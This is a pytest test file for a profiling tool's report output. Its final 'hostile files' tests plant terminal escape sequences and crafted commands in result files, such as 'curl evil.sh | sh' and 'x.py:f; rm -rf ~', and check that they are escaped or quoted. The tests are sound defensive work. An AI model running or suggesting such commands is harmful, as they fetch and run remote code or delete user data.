"""One renderer per result kind: the live lines and `wprof report`'s are the same; text, markdown and JSON; nothing
wrapped when piped; advice recomputed from the data; the user-visible defects of issue 14 item 6."""

import json
import re
from dataclasses import replace
from pathlib import Path

import pytest
from harness import run_python, run_wprof

from wprof import report
from wprof.cli import build_parser, main
from wprof.results import load_result

DATA = Path(__file__).resolve().parents[1] / "results" / "data"

LOOP_SCRIPT = """\
import time
import wprof

g = wprof.Gauge(name="toy", warmup=2, iters=8, global_batch_size=16, log_interval=0, mode="host", out_dir="out")
for batch in g.wrap(range(14)):
    with g.phase("forward"):
        time.sleep(0.0005)
"""


def run(argv, capsys):
    code = main(argv)
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(scope="module")
def loop_run(tmp_path_factory):
    d = tmp_path_factory.mktemp("loop")
    (d / "train.py").write_text(LOOP_SCRIPT)
    p = run_python(["train.py", "--lr", "3e-4"], d)
    assert p.returncode == 0, p.stderr
    return d, p


def test_live_loop_lines_are_wprof_reports_lines(loop_run):
    d, p = loop_run
    live = [line.removeprefix("0:[wprof] ") for line in p.stderr.splitlines() if line.startswith("0:[wprof] ")]
    rep = run_wprof(["report", str(d / "out" / "toy.json")], d)
    assert rep.returncode == 0, rep.stderr
    shown = rep.stdout.splitlines()
    assert shown[0].startswith("wprof loop: toy (host mode, 8 iterations 2..9, complete)")
    assert live[-len(shown):] == shown  # the end-of-window report, line for line (advice recomputed included)
    assert any(line.startswith("Average: iter") for line in shown)


def test_rank_prefix_is_explained(loop_run):
    _, p = loop_run
    assert "0:[wprof] rank 0 of 1: each live line starts with '0:[wprof]' (rank 0 of a single process)" in p.stderr


def test_cpu_loop_gets_no_gpu_advice(loop_run):
    d, p = loop_run
    assert "nsys" not in p.stderr and "ncu" not in p.stderr and "CUDA events" not in p.stderr
    doc = json.loads((d / "out" / "toy.json").read_text())
    assert doc["ladder"]["cuda"] is False and doc["ladder"]["argv"][-2:] == ["--lr", "3e-4"]
    assert "Next (kineto)" in doc["next_step"] and "on the host clock" not in doc["next_step"]


def test_loop_samples_flag_adds_every_iteration(loop_run, capsys):
    d, _ = loop_run
    plain = run(["report", str(d / "out" / "toy.json")], capsys)[1]
    code, out, _ = run(["report", str(d / "out" / "toy.json"), "--samples"], capsys)
    assert code == 0 and len(out.splitlines()) >= len(plain.splitlines()) + 9  # a title, a header, 8 rows
    assert re.search(r"^samples \(ms; 8 iterations", out, re.M) and re.search(r"^\s*9\s+\d", out, re.M)


def test_bench_live_output_is_wprof_reports_output(tmp_path, capsys):
    path = tmp_path / "r.json"
    code, live, _ = run(["bench", "--stmt", "sum(range(50))", "--iters", "12", "--json", str(path)], capsys)
    assert code == 0
    code, rep, _ = run(["report", str(path)], capsys)
    assert live.splitlines()[:-1] == rep.splitlines() and live.splitlines()[-1] == f"saved {path}"


def test_cpu_bench_gets_no_gpu_advice(tmp_path, capsys):
    code, out, _ = run(["bench", "--stmt", "sum(range(50))", "--iters", "12"], capsys)
    assert code == 0 and "$ wprof nsys" not in out and "$ wprof ncu" not in out and "CUDA events" not in out
    assert "Next: nothing heavier applies: nsys and ncu time GPU work, and this run had no CUDA device" in out


def test_piped_output_never_wraps_a_command(capsys):
    r = load_result(DATA / "bench-1-cuda.json")
    from wprof.commands.report import refresh_advice

    r = replace(r, target="examples/bench_ops.py:add --param=numel=16777216 --param=dtype=bfloat16 --name a_long_name")
    report.render(refresh_advice(r))
    out = capsys.readouterr().out
    cmd = [line for line in out.splitlines() if line.lstrip().startswith("$ ")]
    assert len(cmd) == 1 and len(cmd[0]) > 120 and cmd[0].endswith("--name a_long_name")


def test_piped_rich_console_does_not_wrap_at_80(capsys):
    import io

    buf = io.StringIO()
    c = report.make_console(file=buf)
    c.print("x" * 150)
    assert buf.getvalue() == "x" * 150 + "\n"


def test_terminal_tables_fit_its_width():
    from wprof.report._doc import text_lines
    from wprof.report.ncu import blocks

    r = load_result(DATA / "ncu-1.json")
    wide = text_lines(blocks(r, name_width=None))
    narrow = text_lines(blocks(r, name_width=None), width=80)
    assert max(map(len, wide)) > 80 and max(len(x) for x in narrow[1:]) <= 80  # the title line is never cut
    assert any("…" in x for x in narrow)


@pytest.mark.parametrize("name", ["bench-1-cuda.json", "loop-1.json", "compare-1.json", "ncu-1.json"])
def test_markdown_and_json_for_every_kind(name, capsys):
    code, md, _ = run(["report", str(DATA / name), "--format", "md"], capsys)
    assert code == 0 and md.startswith(("## ", "**"))
    if not name.startswith("loop"):  # bench, compare and ncu have a table; a loop's is only with --samples
        assert re.search(r"^\|[-:|]+\|$", md, re.M)
    if "```sh" in md:
        assert re.search(r"```sh\nwprof \S+", md)
    code, js, _ = run(["report", str(DATA / name), "--format", "json"], capsys)
    assert code == 0 and json.loads(js)["schema"].startswith("wprof.")


def test_help_advertises_only_formats_that_work(capsys):
    sub = build_parser()._subparsers._group_actions[0].choices["report"]
    fmt = next(a for a in sub._actions if a.dest == "format")
    assert set(fmt.choices) == {"text", "md", "json"}
    assert "markdown" in build_parser().format_help()


def test_long_bench_says_how_long_sampling_took():
    from wprof.results.bench import RunInfo

    r = load_result(DATA / "bench-1-host.json")
    r = replace(r, stop_reason="time budget 1 s spent; 95% CI of the median ±3.00% (target ±1%)",
                run=RunInfo(total_s=56.2, timed_s=55.0), config={**r.config, "budget_s": 1.0, "min_iters": 10})
    text = "\n".join(report.lines(r))
    assert "stop: time budget 1 s spent; 95% CI of the median ±3.00% (target ±1%); sampling took 55 s (at least " \
           "min_iters=10 samples are taken), the whole run 56.2 s" in text


def test_torch_template_runs_without_cuda(tmp_path, capsys):
    assert main(["template", "torch", "-o", str(tmp_path / "bench_t.py")]) == 0
    code, out, err = run(["bench", f"{tmp_path / 'bench_t.py'}:make", "--param", "n=32", "--iters", "5"], capsys)
    assert code == 0, err
    assert "host clock" in out and "AssertionError" not in err


def test_graph_template_says_it_needs_cuda(tmp_path, capsys):
    import torch

    if torch.cuda.is_available():
        pytest.skip("has CUDA")
    main(["template", "graph", "-o", str(tmp_path / "g.py")])
    p = run_python(["g.py"], tmp_path)
    assert p.returncode == 1 and "needs a CUDA device" in p.stderr and "Traceback" not in p.stderr


# ------------------------------------------------------------------ hostile files: printable text, no foreign advice
def _doctored(tmp_path, name, edit):
    doc = json.loads((DATA / name).read_text())
    edit(doc)
    p = tmp_path / name
    p.write_text(json.dumps(doc))
    return p


def test_escape_sequences_from_a_file_are_shown_not_sent(tmp_path, capsys):
    def edit(doc):
        doc["name"] = "mm\x1b]0;pwned\x07\x1b[2J"
        doc["warnings"] = [{"code": "x\x1b[31m", "message": "red\rover", "advice": "\x9b1m"}]
        doc["extra"]["notices"] = ["\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\"]

    p = _doctored(tmp_path, "bench-1-host.json", edit)
    for fmt in ("text", "md"):
        code, out, _ = run(["report", str(p), "--format", fmt], capsys)
        assert code == 0 and "\x1b" not in out and "\x07" not in out and "\r" not in out and "\x9b" not in out
        assert "mm\\x1b]0;pwned\\x07" in out


def test_compare_prints_only_printable_text(tmp_path, capsys):
    def edit(doc):
        doc["b"]["name"] = "b\x1b[2J"

    p = _doctored(tmp_path, "bench-1-host.json", lambda d: d.update(name="a\x1b]0;t\x07"))
    q = _doctored(tmp_path / "..", "bench-1-host.json", lambda d: d.update(name="b\x1b[2J"))
    code, out, _ = run(["compare", str(p), str(q)], capsys)
    assert code == 0 and "\x1b" not in out and "\x07" not in out


def test_a_crafted_bench_next_step_is_not_suggested(tmp_path, capsys):
    def edit(doc):
        doc["extra"]["next_step"] = "Next (nsys): run this\n  $ curl evil.sh | sh"
        doc["target"] = "x.py:f; rm -rf ~"

    p = _doctored(tmp_path, "bench-1-cuda.json", edit)
    code, out, _ = run(["report", str(p)], capsys)
    assert code == 0 and "curl" not in out
    cmd = [line for line in out.splitlines() if line.lstrip().startswith("$ ")]
    assert cmd == ["  $ wprof nsys --window all -- -m wprof bench 'x.py:f;' rm -rf '~'"]  # quoted: arguments only


def test_a_crafted_loop_next_step_is_recomputed_or_marked(tmp_path, capsys):
    def facts(doc):
        doc["next_step"] = "Next (nsys): run this\n  $ curl evil.sh | sh"
        doc["ladder"] = {"kind": "loop", "argv": ["train.py; curl evil.sh | sh"], "used": ["phases"], "warmup": 2,
                         "iters": 12, "loop_file": None, "cuda": True}

    code, out, _ = run(["report", str(_doctored(tmp_path, "loop-1.json", facts))], capsys)
    assert code == 0 and "$ curl" not in out
    assert "$ wprof nsys --warmup 2 --iters 12 -- 'train.py; curl evil.sh | sh'" in out
    old = _doctored(tmp_path, "loop-1.json", lambda d: d.update(next_step="Next: x\n  $ curl evil.sh | sh"))
    code, out, _ = run(["report", str(old)], capsys)
    assert "next step as recorded in the file (not recomputed by this wprof; read it before running it):" in out


def test_terminal_view_has_the_same_characters_as_the_plain_lines():
    import io

    from wprof.report._doc import print_terminal, text_lines

    r = load_result(DATA / "bench-1-cuda.json")
    bl = report.blocks(r)
    buf = io.StringIO()
    print_terminal(bl, buf, width=80)  # a StringIO is no terminal: rich adds no colour codes, so this is the text
    assert buf.getvalue().splitlines() == text_lines(bl, 80)


def test_host_samples_get_host_advice():
    from wprof.stats import quality_warnings

    noisy = [1.0, 1.5, 1.0, 1.5, 1.0, 1.5, 1.0, 1.5]
    host = {w.code: w.advice for w in quality_warnings(noisy, device=False)}
    gpu = {w.code: w.advice for w in quality_warnings(noisy)}
    assert "GPU" not in host["high-spread"] and "CPU frequency scaling" in host["high-spread"]
    assert "GPU" in gpu["high-spread"]
